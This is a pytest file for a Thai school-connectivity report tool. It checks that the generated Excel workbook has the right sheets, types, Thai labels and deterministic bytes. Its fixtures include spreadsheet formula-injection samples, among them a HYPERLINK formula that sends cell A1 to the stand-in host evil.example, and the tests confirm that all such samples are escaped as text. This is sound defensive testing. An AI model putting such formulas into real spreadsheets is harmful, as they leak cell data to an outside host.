"""The report's workbook, from a warehouse holding a validated demo day, on SQLite and PostgreSQL.

The day: four ESAs of the demo data set (messy, so there are findings), read and validated as the
pull does, merged, plus one hand-made ESA whose schools, notes and typed values look like
formulas.
"""

from __future__ import annotations

import io
import json
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Engine, func, select

from schoolnet.contract import load_contract
from schoolnet.core.paths import templates_dir
from schoolnet.core.registry import Esa, School, read_esas, read_schools, schools_by_code
from schoolnet.devtools.demo import generate
from schoolnet.devtools.emulator.state import Bounds, read_values
from schoolnet.report.workbook import (
    FINDINGS_SHEET,
    LOST_SHEET,
    NEVER_REPORTED,
    NO_PROVIDER_SHEET,
    SNAPSHOT_SHEET,
    build_report_workbook,
    workbook_filename,
)
from schoolnet.validation import validate_sheet
from schoolnet.warehouse import EsaDay, merge_day
from schoolnet.warehouse.models import FindingRow, SnapshotRow

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'
TEST_ESA = Esa("109901", "สพป.ทดสอบ เขต 1", "primary", "ลำปาง", "sheet-test", "t@example.org")
LINKED, SUMMED, SPACED, WIDE, CONTROL = (f"109901000{i}" for i in range(1, 6))
TEST_SCHOOLS = [
    School(LINKED, HYPERLINK, "109901", "ลำปาง", 120),
    School(SUMMED, "@SUM(A1)", "109901", "ลำปาง", 45),
    School(SPACED, "  -1+2", "109901", "ลำปาง", 60),
    School(WIDE, "＝1+1", "109901", "ลำปาง", 80),
    School(CONTROL, "บ้าน\x0bดอยคำ", "109901", "ลำพูน", 30),  # XML cannot carry \x0b
]
TEST_DAY_VALUES: dict[str, dict[str, Any]] = {
    LINKED: {
        "students": 120,
        "status": "connected",
        "isp": "True",
        "link_type": "fiber",
        "download_mbps": 30.5,
        "monthly_fee_thb": 1290.0,
        "funding_source": "obec",
        "support_requested_thb": -250.0,  # a negative number: a number, never quoted text
        "service_start": date(2017, 12, 1),
        "note": "-1+2",
    },
    SUMMED: {
        "students": 45,
        "status": "no_provider",
        "providers_contacted": ["TOT", "AIS"],
        "note": "@SUM(A1) ติดต่อแล้ว",
    },
}
TEST_FINDING = {
    "esa": "109901",
    "row": 5,
    "column": "download_mbps",
    "header": "ความเร็วดาวน์โหลด (Mbps)",
    "cell": "G5",
    "severity": "error",
    "code": "invalid_number",
    "message": '"=1+1" ไม่ใช่ตัวเลข: พิมพ์ความเร็วดาวน์โหลดเป็นตัวเลข หน่วย Mbps เช่น 30',
    "value": "=1+1",
}


@dataclass(frozen=True)
class Day:
    report_date: date
    esas: list[Esa]
    schools: list[School]
    esa_days: list[EsaDay]


@pytest.fixture(scope="module")
def day(tmp_path_factory: pytest.TempPathFactory) -> Day:
    """Four demo ESAs validated as the pull does, and the hand-made ESA; not yet merged."""
    out = tmp_path_factory.mktemp("workbook-demo")
    manifest = generate(out, days=1, esa_limit=4, messy_rate=0.1)
    report_date = manifest.days[0]
    esas = read_esas(out / "esas.csv")
    schools = read_schools(out / "schools.csv")
    registry = schools_by_code(schools)
    esa_days = []
    for esa in esas:
        path = out / "days" / report_date.isoformat() / f"{esa.spreadsheet_id}.json"
        sheet = json.loads(path.read_text(encoding="utf-8"))["sheets"][0]
        values = read_values(sheet, Bounds(0, 0, None, None), "UNFORMATTED_VALUE", "SERIAL_NUMBER")
        validation = validate_sheet(
            values, esa_code=esa.esa_code, schools=registry, today=report_date
        )
        esa_days.append(
            EsaDay(
                esa.esa_code,
                validation.outcome,
                rows_read=len(validation.rows),
                accepted={
                    r.school_code: r.values for r in validation.accepted_rows if r.school_code
                },
                findings=[finding.to_dict() for finding in validation.findings],
            )
        )
    esa_days.append(EsaDay("109901", "accepted", accepted=TEST_DAY_VALUES, findings=[TEST_FINDING]))
    return Day(report_date, [*esas, TEST_ESA], [*schools, *TEST_SCHOOLS], esa_days)


@pytest.fixture
def warehouse(warehouse_engine: Engine, day: Day) -> Engine:
    merge_day(warehouse_engine, day.report_date, day.esas, day.schools, day.esa_days)
    return warehouse_engine


def build(engine: Engine, report_date: date) -> bytes:
    with engine.connect() as conn:
        return build_report_workbook(conn, report_date)


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def header(sheet: Worksheet) -> list[Any]:
    return [cell.value for cell in sheet[1]]


def by_code(sheet: Worksheet, column: int = 0) -> dict[str, tuple[Any, ...]]:
    """The sheet's data rows as cells, keyed by the code in ``column``."""
    return {row[column].value: row for row in sheet.iter_rows(min_row=2)}


def counted(engine: Engine, model: type[SnapshotRow] | type[FindingRow], *where: Any) -> int:
    with engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(model).where(*where)).scalar_one())


def test_sheets_headers_and_one_row_per_warehouse_row(warehouse: Engine, day: Day) -> None:
    book = opened(build(warehouse, day.report_date))
    assert book.sheetnames == [
        "ข้อมูลรายโรงเรียน",
        "โรงเรียนไม่มีผู้ให้บริการ",
        "ผลตรวจสอบ",
        "ขาดการเชื่อมต่อในรอบ 7 วัน",
    ]
    assert book.sheetnames == [SNAPSHOT_SHEET, NO_PROVIDER_SHEET, FINDINGS_SHEET, LOST_SHEET]
    snapshot, no_provider, findings, _lost = book.worksheets
    contract = load_contract()
    assert header(snapshot) == [
        "วันที่รายงาน",
        "รหัสโรงเรียน",
        "ชื่อโรงเรียน",
        "รหัสเขตพื้นที่",
        "สำนักงานเขตพื้นที่การศึกษา",
        "จังหวัด",
        "ระดับ",
        *[c.header for c in contract.columns if c.key not in ("school_code", "school_name")],
        "วันที่รับข้อมูล",
    ]
    assert header(no_provider) == [
        "รหัสโรงเรียน",
        "ชื่อโรงเรียน",
        "สำนักงานเขตพื้นที่การศึกษา",
        "จังหวัด",
        "จำนวนนักเรียน",
        "ผู้ให้บริการที่ติดต่อแล้ว",
        "วันที่รับข้อมูล",
        "หมายเหตุ",
    ]
    assert header(findings) == [
        "รหัสเขตพื้นที่",
        "สำนักงานเขตพื้นที่การศึกษา",
        "แถว",
        "ช่อง",
        "คอลัมน์",
        "ระดับ",
        "สิ่งที่ต้องทำ",
        "ค่าที่พิมพ์ไว้",
        "รหัสปัญหา",
    ]
    on_day = SnapshotRow.report_date == day.report_date
    schools = counted(warehouse, SnapshotRow, on_day)
    unreached = counted(warehouse, SnapshotRow, on_day, SnapshotRow.status == "no_provider")
    found = counted(warehouse, FindingRow, FindingRow.report_date == day.report_date)
    assert schools == len(day.schools)
    assert unreached > 1 and found > 1  # the demo day has escalations and findings to list
    assert snapshot.max_row - 1 == schools
    assert no_provider.max_row - 1 == unreached
    assert findings.max_row - 1 == found
    # Every sheet: the header row frozen, a filter over every row.
    assert [s.freeze_panes for s in book.worksheets] == ["A2", "A2", "A2", "A2"]
    assert snapshot.auto_filter.ref == f"A1:U{schools + 1}"
    assert findings.auto_filter.ref == f"A1:I{found + 1}"
    assert snapshot.column_dimensions["C"].width == 30


def test_formula_like_text_arrives_as_text(warehouse: Engine, day: Day) -> None:
    book = opened(build(warehouse, day.report_date))
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    snapshot = by_code(book[SNAPSHOT_SHEET], column=1)
    names = {code: snapshot[code][2] for code in (LINKED, SUMMED, SPACED, WIDE, CONTROL)}
    assert {code: (cell.value, cell.data_type) for code, cell in names.items()} == {
        LINKED: ("'" + HYPERLINK, "s"),
        SUMMED: ("'@SUM(A1)", "s"),
        SPACED: ("'  -1+2", "s"),
        WIDE: ("'＝1+1", "s"),
        CONTROL: ("บ้านดอยคำ", "s"),  # the vertical tab dropped, the Thai kept
    }
    assert snapshot[LINKED][19].value == "'-1+2"  # note
    unreached = by_code(book[NO_PROVIDER_SHEET])
    assert unreached[SUMMED][7].value == "'@SUM(A1) ติดต่อแล้ว"
    typed = [row for row in book[FINDINGS_SHEET].iter_rows(min_row=2) if row[0].value == "109901"]
    assert [(row[7].value, row[7].data_type) for row in typed] == [("'=1+1", "s")]
    assert typed[0][6].value == TEST_FINDING["message"]  # "=1+1" inside the text: untouched


def test_values_keep_their_types_and_thai_labels(warehouse: Engine, day: Day) -> None:
    book = opened(build(warehouse, day.report_date))
    snapshot = by_code(book[SNAPSHOT_SHEET], column=1)
    linked = [cell.value for cell in snapshot[LINKED]]
    assert linked == [
        datetime.combine(day.report_date, datetime.min.time()),  # openpyxl reads dates back so
        LINKED,
        "'" + HYPERLINK,
        "109901",
        "สพป.ทดสอบ เขต 1",
        "ลำปาง",
        "ประถมศึกษา",
        120,
        "เชื่อมต่อแล้ว",
        "ทรู",
        "ใยแก้วนำแสง/FTTx",
        30.5,
        None,
        1290,
        "งบ สพฐ.",
        -250,
        None,
        None,
        datetime(2017, 12, 1),  # noqa: DTZ001 - a sheet cell: naive wall-clock
        "'-1+2",
        datetime.combine(day.report_date, datetime.min.time()),
    ]
    cells = snapshot[LINKED]
    assert [cells[i].is_date for i in (0, 18, 20)] == [True, True, True]
    assert [cells[i].data_type for i in (7, 11, 13, 15)] == ["n", "n", "n", "n"]
    assert isinstance(cells[7].value, int)
    assert isinstance(cells[15].value, (int, float)) and cells[15].value < 0

    # Every demo school: its registry name in Thai as typed, its status as the contract's label.
    contract = load_contract()
    statuses = {value.label for value in contract.enums["status"]}
    ours = {school.school_code for school in TEST_SCHOOLS}
    for school in day.schools:
        if school.school_code in ours:
            continue
        row = snapshot[school.school_code]
        assert row[2].value == school.school_name
        assert row[5].value == school.province
        assert row[8].value in statuses | {NEVER_REPORTED}
    assert any(row[8].value == "ไม่มีผู้ให้บริการในพื้นที่" for row in snapshot.values())

    unreached = by_code(book[NO_PROVIDER_SHEET])
    assert [cell.value for cell in unreached[SUMMED]] == [
        SUMMED,
        "'@SUM(A1)",
        "สพป.ทดสอบ เขต 1",
        "ลำปาง",
        45,
        "ทีโอที, เอไอเอส",
        datetime.combine(day.report_date, datetime.min.time()),
        "'@SUM(A1) ติดต่อแล้ว",
    ]
    findings = [[cell.value for cell in row] for row in book[FINDINGS_SHEET].iter_rows(min_row=2)]
    assert [row[0] for row in findings] == sorted(row[0] for row in findings)  # by ESA
    assert {row[5] for row in findings} <= {"ไม่รับแถวนี้", "โปรดตรวจสอบ"}
    assert findings[-1] == [
        "109901",
        "สพป.ทดสอบ เขต 1",
        5,
        "G5",
        "ความเร็วดาวน์โหลด (Mbps)",
        "ไม่รับแถวนี้",
        TEST_FINDING["message"],
        "'=1+1",
        "invalid_number",
    ]


def test_a_school_that_never_reported_has_the_emails_never_reported_status(
    warehouse: Engine, day: Day
) -> None:
    snapshot = by_code(opened(build(warehouse, day.report_date))[SNAPSHOT_SHEET], column=1)
    never = {code for code, row in snapshot.items() if row[8].value == NEVER_REPORTED}
    # The schools the email counts as never reported (no accepted row), and no other.
    with warehouse.connect() as conn:
        counted_never = set(
            conn.scalars(
                select(SnapshotRow.school_code).where(
                    SnapshotRow.report_date == day.report_date, SnapshotRow.accepted_on.is_(None)
                )
            )
        )
    assert never == counted_never
    assert {SPACED, WIDE, CONTROL} <= never and LINKED not in never
    assert all(row[8].value for row in snapshot.values())  # no blank status cell
    assert all(snapshot[code][20].value is None for code in never)  # never accepted
    # The email's words for them: its summary row, in HTML and in plain text.
    assert NEVER_REPORTED == "ยังไม่เคยรายงาน"
    for template in ("_report_sections.j2", "report.txt.j2"):
        assert NEVER_REPORTED in (templates_dir() / template).read_text(encoding="utf-8")


def test_same_warehouse_and_date_give_the_same_bytes(warehouse: Engine, day: Day) -> None:
    first = build(warehouse, day.report_date)
    assert build(warehouse, day.report_date) == first
    properties = opened(first).properties
    # openpyxl reads the document properties as naive UTC datetimes
    assert properties.created == properties.modified == datetime(2018, 1, 3)  # noqa: DTZ001
    assert properties.creator == "schoolnet"


def test_a_day_without_data_gives_header_rows_only(warehouse: Engine) -> None:
    book = opened(build(warehouse, date(2017, 12, 31)))
    assert [sheet.max_row for sheet in book.worksheets] == [1, 1, 1, 1]
    assert header(book[FINDINGS_SHEET])[0] == "รหัสเขตพื้นที่"


def test_workbook_filename() -> None:
    assert workbook_filename(date(2018, 1, 3)) == "schoolnet-2018-01-03.xlsx"
